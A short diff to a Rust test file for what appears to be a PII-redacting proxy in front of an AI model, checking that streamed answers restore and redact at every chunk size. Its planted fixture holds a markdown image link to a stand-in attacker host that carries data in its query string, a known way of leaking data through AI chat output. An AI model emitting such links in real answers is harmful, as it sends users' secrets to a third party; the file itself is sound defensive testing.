@@ -229,7 +229,8 @@ async fn pii_never_reaches_upstream_and_comes_back_restored() {
 
 #[tokio::test]
 async fn streamed_answers_restore_and_redact_at_every_chunk_size() {
-    let h = start().await;
+    // Sixteen answers with a secret from one key: anomaly detection would rightly suspend it.
+    let h = start_with("[alerts]\nblocked_leaks = 0\n").await;
     let planted = format!(
         "Hello <PERSON_1>. The SSN on file is {SSN} and the key {AWS}. \
          ![chart](https://exfil.attacker.net/p.png?d=abc) Done."
